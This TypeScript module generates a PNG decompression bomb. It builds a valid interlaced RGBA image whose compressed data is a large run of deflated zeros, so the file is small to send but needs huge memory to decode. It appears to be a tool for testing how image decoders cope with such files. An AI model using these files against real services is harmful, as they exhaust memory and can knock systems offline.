import { once } from 'node:events';
import { buffer } from 'node:stream/consumers';
import { crc32, createDeflate } from 'node:zlib';

/** The passes of Adam7 (PNG §8.2): where each begins and how far its pixels are apart, across and down. */
const PASSES = [
  ...([
    [0, 8, 0, 8],
    [4, 8, 0, 8],
    [0, 4, 4, 8],
    [2, 4, 0, 4],
  ] as const),
  ...([
    [0, 2, 2, 4],
    [1, 2, 0, 2],
    [0, 1, 1, 2],
  ] as const),
];

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  size.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([size, named, sum]);
}

/** This many zeros, deflated without ever holding them in memory. */
async function deflatedZeros(count: number): Promise<Buffer> {
  const deflate = createDeflate();
  const whole = buffer(deflate);
  const part = Buffer.alloc(1 << 20);
  for (let left = count; left > 0; left -= part.length) {
    const isRoom = deflate.write(left < part.length ? part.subarray(0, left) : part);
    if (!isRoom) await once(deflate, 'drain');
  }
  deflate.end();
  return whole;
}

/**
 * A valid PNG that shows nothing. It is interlaced with red, green, blue and alpha, so all of it has to be in memory
 * before the first line is known: small to send, big to open.
 */
export async function bombOf(edge: number, bits: 8 | 16): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(edge, 0);
  header.writeUInt32BE(edge, 4);
  header.set([bits, 6, 0, 0, 1], 8);
  const bytesOf = ([x, across, y, down]: (typeof PASSES)[number]) =>
    Math.ceil((edge - y) / down) * (1 + (Math.ceil((edge - x) / across) * 4 * bits) / 8);
  const zeros = PASSES.reduce((sum, pass) => sum + bytesOf(pass), 0);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', await deflatedZeros(zeros)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
